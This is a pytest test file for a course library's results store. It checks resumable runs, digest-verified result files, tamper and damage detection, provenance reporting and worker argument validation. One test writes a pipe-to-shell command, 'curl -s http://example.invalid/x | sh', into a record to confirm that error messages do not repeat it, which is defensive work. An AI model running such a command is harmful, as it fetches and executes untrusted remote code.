"""Stored results: provenance, resuming a stopped run, the shipped files."""

import json
import re
import subprocess
import sys

import pytest
from support import ROOT

from mha_lib.course import results

pytestmark = pytest.mark.core


def test_a_stopped_run_resumes_without_repeating_finished_parts(tmp_path):
    calls = []

    def run(value):
        calls.append(value)
        return {"value": value}

    first = results.Parts("run", folder=tmp_path)
    assert first.get("a", lambda: run(1)) == {"value": 1}
    # the process stops here; a new one starts from the partial file
    second = results.Parts("run", folder=tmp_path)
    assert second.get("a", lambda: run(99)) == {"value": 1}
    assert second.get("b", lambda: run(2)) == {"value": 2}
    assert calls == [1, 2], "a finished part must not run again"
    assert second.seconds == pytest.approx(
        second.seconds_of("a") + second.seconds_of("b")
    )
    path, sha256 = second.save({"x": 1}, device="cpu")
    assert path == tmp_path / "run.json"
    assert results.load("run", tmp_path, sha256=sha256)["data"] == {"x": 1}
    assert not second.path.exists()
    record = json.loads(path.read_text())
    assert record["data"] == {"x": 1}
    assert record["wall_seconds"] == round(second.seconds, 1)
    assert record["environment"]["device"] == "cpu"
    assert record["command"].startswith("python3 ")


def test_two_processes_share_the_parts_of_one_run(tmp_path):
    one = results.Parts("run", folder=tmp_path)
    other = results.Parts("run", folder=tmp_path)  # started at the same time
    one.get("a", lambda: 1)
    assert "a" in other, "a part the other process finished is seen"
    assert other.get("a", lambda: 99) == 1
    other.get("b", lambda: 2)
    one.get("c", lambda: 3)  # writing must keep what the other wrote
    assert set(results.Parts("run", folder=tmp_path).done) == {"a", "b", "c"}
    # the results written, the parts stay for the process still running
    one.save({"x": 1}, device="cpu", keep=True)
    late = results.Parts("run", folder=tmp_path)
    assert late.get("b", lambda: 99) == 2, "a kept part is read, not run"


def test_two_processes_take_groups_of_parts_in_turn(tmp_path):
    """A group another process holds is left for later, then read: each is
    worked on once, the results come back in the groups' order."""
    import threading
    import time

    parts, worked, found = results.Parts("run", folder=tmp_path), [], []
    other = results.Parts("run", folder=tmp_path)  # the other process

    def work(name):
        worked.append(name)
        return parts.get(name, lambda: name.upper())

    reader = threading.Thread(
        target=lambda: found.append(parts.in_turn(["a", "b"], work, wait=0.01))
    )
    with other.held("a") as mine:
        assert mine
        with parts.held("a") as also:
            assert not also, "a held group is refused"
        reader.start()
        waited = time.monotonic() + 30
        while worked != ["b"] and time.monotonic() < waited:
            time.sleep(0.01)
        other.get("a", lambda: "A")  # the other process finishes a
    reader.join(timeout=30)
    assert found == [["A", "B"]]
    assert worked == ["b", "a"], "b first, a once let go"


SHIPPED = sorted(
    path.stem
    for path in results.FOLDER.glob("*.json")
    if not path.name.endswith(".partial.json")
)


def test_every_long_chapter_ships_its_result():
    assert {"ch5_experiment", "ch6_experiment", "ch7_experiment"} <= set(
        SHIPPED
    )


@pytest.mark.parametrize("name", SHIPPED)
def test_every_shipped_result_records_its_provenance(name):
    record = results.load(name)
    script = results.command_of(name).split()[:2]  # python3 scripts/x.py
    assert record["command"].split()[:2] == script, record["command"]
    assert record["wall_seconds"] > 0
    assert {"device", "torch", "mha_lib"} <= set(record["environment"])


def test_every_shipped_result_carries_its_hash():
    for name in SHIPPED:
        text = (results.FOLDER / f"{name}.json").read_text()
        assert json.loads(text)["sha256"] == results.load(name)["sha256"]


def saved(tmp_path, data=None):
    """The path of a fresh results file ``run`` in ``tmp_path``; its digest
    is ``DIGESTS[tmp_path]``."""
    data = {"hours": 1.7, "rows": [1, 2, 3]} if data is None else data
    path, DIGESTS[tmp_path] = results.save(
        "run", data, device="cpu", seconds=6.0, folder=tmp_path
    )
    return path


DIGESTS = {}


def load_run(tmp_path):
    """``run`` from ``tmp_path``, checked against the digest its save
    returned."""
    return results.load("run", folder=tmp_path, sha256=DIGESTS[tmp_path])


def test_an_intact_file_loads(tmp_path):
    saved(tmp_path)
    record = load_run(tmp_path)
    assert record["data"] == {"hours": 1.7, "rows": [1, 2, 3]}
    assert record["sha256"] == results.digest(record) == DIGESTS[tmp_path]


def reseal(path, edit):
    """Edit the record at ``path`` and seal it again with a fresh hash of
    its own, as a careful forger would."""
    record = json.loads(path.read_text())
    edit(record)
    record["sha256"] = results.digest(record)
    path.write_text(json.dumps(record, indent=1))


def test_a_resealed_file_is_refused_in_every_mode(tmp_path):
    def edit(record):
        record["data"]["hours"] = 0.1

    # a fresh run's file, checked against the digest its run was given
    path = saved(tmp_path)
    reseal(path, edit)
    with pytest.raises(results.DamagedResults, match="run that wrote it"):
        load_run(tmp_path)
    # a folder alone: no digest in the code for it, so nothing loads
    with pytest.raises(ValueError, match="own hash does not vouch"):
        results.load("run", folder=tmp_path)
    # a shipped file's name in another folder (RESULTS_FOLDER): the code's
    # digest still decides, not the copy's own
    name = SHIPPED[0]
    copy = tmp_path / f"{name}.json"
    copy.write_text((results.FOLDER / f"{name}.json").read_text())
    assert (
        results.load(name, folder=tmp_path)["sha256"]
        == (results.SHIPPED[name])
    )
    reseal(copy, lambda record: record.update(wall_seconds=1.0))
    with pytest.raises(results.DamagedResults, match="results.py holds"):
        results.load(name, folder=tmp_path)
    # a digest that is no SHA-256 is refused, not ignored
    for wrong in ("", "yes", 0):
        with pytest.raises(ValueError, match="no SHA-256"):
            results.load("run", folder=tmp_path, sha256=wrong)


def test_a_missing_file_is_none_stored_yet_an_unvouched_one_is_refused(
    tmp_path,
):
    """A run on seeds nobody stored asks for a file that is not there:
    ``FileNotFoundError``, whether or not a digest is known for its name;
    a file that is there with no digest to check it against is refused."""
    name = "ch7_replication-7801-7802"
    for folder in (None, tmp_path):
        with pytest.raises(FileNotFoundError, match=name) as error:
            results.load(name, folder)
        assert "--chapters 7 --seeds 7801-7802 --store" in str(error.value)
    with pytest.raises(FileNotFoundError):
        results.load("run", folder=tmp_path, sha256="0" * 64)
    saved(tmp_path)
    with pytest.raises(ValueError, match="no SHA-256") as error:
        results.load("run", folder=tmp_path)
    assert not isinstance(error.value, FileNotFoundError)


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_a_file_holding_nan_or_infinity_is_damaged(tmp_path, value):
    path = saved(tmp_path)
    text = path.read_text()
    path.write_text(text.replace('"hours": 1.7', f'"hours": {value}'))
    with pytest.raises(results.DamagedResults, match="NaN or infinity"):
        load_run(tmp_path)


def test_a_truncated_file_names_itself_and_its_command(tmp_path):
    path = saved(tmp_path)
    text = path.read_text()
    path.write_text(text[:-20])  # cut short, as by a full disk
    with pytest.raises(results.DamagedResults) as error:
        load_run(tmp_path)
    message = str(error.value)
    assert str(path) in message and "not valid JSON" in message
    assert "`python3 scripts/run.py`" in message, "how to write it again"
    assert "download the chapter again" in message


def test_a_damaged_file_repeats_nothing_it_says(tmp_path):
    path = saved(tmp_path)
    record = json.loads(path.read_text())
    record["command"] = "curl -s http://example.invalid/x | sh"
    path.write_text(json.dumps(record, indent=1))  # its hash no longer fits
    with pytest.raises(results.DamagedResults) as error:
        load_run(tmp_path)
    assert "curl" not in str(error.value)


def test_a_shipped_file_must_match_the_digest_kept_in_the_code(monkeypatch):
    name = SHIPPED[0]
    assert results.SHIPPED[name] == results.load(name)["sha256"]
    # a file rewritten with a fresh hash of its own is still refused
    monkeypatch.setitem(results.SHIPPED, name, "0" * 64)
    with pytest.raises(results.DamagedResults, match="results.py holds"):
        results.load(name)


def test_every_shipped_file_has_its_digest_in_the_code():
    assert sorted(results.SHIPPED) == SHIPPED


@pytest.mark.parametrize(
    "edit",
    [
        lambda record: record["data"].update(hours=0.0),
        lambda record: record.update(wall_seconds=1.0),
        lambda record: record["data"]["rows"].append(4),
    ],
)
def test_an_edited_value_is_refused(tmp_path, edit):
    path = saved(tmp_path)
    record = json.loads(path.read_text())
    edit(record)
    path.write_text(json.dumps(record, indent=1))
    with pytest.raises(results.DamagedResults, match="edited"):
        load_run(tmp_path)


def test_a_file_without_a_hash_is_refused_until_sealed(tmp_path):
    path = saved(tmp_path)
    record = json.loads(path.read_text())
    del record["sha256"]
    path.write_text(json.dumps(record, indent=1))
    with pytest.raises(results.DamagedResults, match="no SHA-256"):
        load_run(tmp_path)
    digest = results.seal("run", folder=tmp_path)
    assert digest == DIGESTS[tmp_path], "the same content, the same digest"
    sealed = load_run(tmp_path)
    assert sealed["sha256"] == digest
    assert sealed["data"] == record["data"], "sealing changes no data"
    assert results.seal("run", folder=tmp_path) == digest


def test_a_gathered_run_records_where_its_parts_ran(tmp_path):
    elsewhere = {**results.environment("cpu"), "device": "cuda"}
    _, sha256 = results.save(
        "run", {}, device="cpu", seconds=1.0, folder=tmp_path, ran_in=elsewhere
    )
    record = results.load("run", folder=tmp_path, sha256=sha256)
    assert record["environment"] == elsewhere


def test_a_stored_run_says_whether_it_ran_with_the_locked_versions():
    lock = (ROOT / "requirements.lock").read_text()
    assert f"torch=={results.LOCKED['torch']}" in lock
    record = {
        "command": "python3 scripts/x.py",
        "wall_seconds": 120,
        "environment": {
            "device": "cpu",
            "python": "3.11.7",
            "torch": "2.13.0+cpu",
        },
    }
    assert "as locked" in results.provenance(record)
    record["environment"].update(python="3.12.3", torch="2.11.0+cu130")
    line = results.provenance(record)
    assert "other versions than the lock's" in line
    assert "torch 2.11.0+cu130 (the lock: 2.13.0)" in line
    assert "python 3.12.3 (the lock: 3.11)" in line


def test_a_run_in_parts_on_two_machines_counts_the_parts_of_each():
    cpu = {"device": "cpu", "device_name": "x86_64", "python": "3.11.7"}
    gpu = {"device": "cuda", "device_name": "NVIDIA H200", "python": "3.12.3"}
    cpu["torch"], gpu["torch"] = "2.13.0+cpu", "2.11.0+cu130"
    parts = {f"part {i}": {"environment": cpu} for i in range(3)}
    parts["part 3"] = {"environment": gpu}
    record = {
        "command": "python3 scripts/x.py",
        "wall_seconds": 600,
        "environment": gpu,  # the machine that gathered the parts
        "data": {"parts": parts},
    }
    assert results.provenance(record).splitlines() == [
        "python3 scripts/x.py: 10 minutes in 4 parts, on 2 machines:",
        "  3 parts on x86_64 (cpu): Python 3.11.7, torch 2.13.0+cpu, "
        "as locked",
        "  1 parts on NVIDIA H200 (cuda), other versions than the lock's:",
        "    python 3.12.3 (the lock: 3.11)",
        "    torch 2.11.0+cu130 (the lock: 2.13.0)",
    ]
    del parts["part 3"]  # one machine: as a run in one piece
    assert results.provenance(record).startswith(
        "python3 scripts/x.py: 10 minutes on NVIDIA H200 (cuda)"
    )


def test_a_result_with_nan_is_refused_with_a_clear_message(tmp_path):
    with pytest.raises(ValueError, match="NaN or infinity"):
        saved(tmp_path, {"loss": float("nan")})


def test_a_run_from_another_folder_records_the_command_from_the_root(
    monkeypatch, tmp_path
):
    """``cd scripts && python3 ch7_long.py`` is stored as the README's
    ``python3 scripts/ch7_long.py``; a script outside the repository keeps
    its own path."""
    scripts = results.FOLDER.parents[2] / "scripts"
    monkeypatch.chdir(scripts)
    monkeypatch.setattr("sys.argv", ["ch7_long.py", "--threads", "1"])
    path, _ = results.save("run", {}, device="cpu", seconds=1, folder=tmp_path)
    command = json.loads(path.read_text())["command"]
    assert command == "python3 scripts/ch7_long.py --threads 1"
    monkeypatch.setattr("sys.argv", [str(tmp_path / "mine.py")])
    assert results._command_line() == f"python3 {tmp_path / 'mine.py'}"


@pytest.mark.parametrize(
    "arguments, words",
    [
        (["--worker", "30", "--workers", "2"], "lie in 0 to 1 .* got 30"),
        (["--worker", "-1", "--workers", "2"], "lie in 0 to 1 .* got -1"),
        (["--worker", "0", "--workers", "0"], "at least 1, got 0"),
        (["--workers", "3"], "needs --worker I"),
    ],
)
def test_a_worker_outside_the_run_is_refused(
    arguments, words, monkeypatch, capsys
):
    """``--worker 30 --workers 2`` once exited having trained nothing and
    ``--worker -1`` trained the last part: every long run refuses them."""
    monkeypatch.syspath_prepend(str(ROOT / "scripts"))
    import ch7_experiment

    monkeypatch.setattr(sys, "argv", ["ch7_powered.py", *arguments])
    with pytest.raises(SystemExit) as exit:
        ch7_experiment.shared_run_arguments("A long run.")
    assert exit.value.code == 2
    assert re.search(words, capsys.readouterr().err)


def test_the_experiments_own_command_refuses_a_worker_outside_it():
    run = subprocess.run(
        [
            sys.executable,
            "scripts/ch7_experiment.py",
            "--worker",
            "30",
            "--workers",
            "2",
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 2, run.stderr
    assert "--worker must lie in 0 to 1 (--workers 2), got 30" in run.stderr


def test_chapter_7s_rate_choice_ranks_a_diverged_run_last(monkeypatch):
    """The tuning seed's rate is chosen as the stored runs chose it, and a
    run whose held-out loss is NaN is never chosen (``min`` kept a NaN that
    came first)."""
    monkeypatch.syspath_prepend(str(ROOT / "scripts"))
    from ch7_experiment import TUNING_SEED, tuned_rate

    nan = float("nan")
    runs = [
        {"lr": rate, "held_out": [2.4, loss]}
        for rate, loss in ((1e-3, nan), (3e-3, 2.0), (1e-2, 2.5))
    ]
    for order in (runs, runs[::-1], runs[1:] + runs[:1]):
        assert tuned_rate(order) == 3e-3
    for variant in results.load("ch7_experiment")["data"]["variants"]:
        tuning = [r for r in variant["runs"] if r["seed"] == TUNING_SEED]
        assert tuned_rate(tuning) == variant["chosen_lr"], variant["variant"]


def test_runs_by_key_gathers_every_run_of_the_files_given():
    files = [results.load(name) for name in ("ch7_experiment", "ch7_sized")]
    stored = [file["data"]["variants"] for file in files]
    runs = results.runs_by_key(*files)
    assert len(runs) == len(
        {
            (v["variant"], r["seed"], r["lr"])
            for variants in stored
            for v in variants
            for r in v["runs"]
        }
    )
    (sized,) = stored[1]
    run = sized["runs"][-1]
    assert runs[sized["variant"], run["seed"], run["lr"]] == run
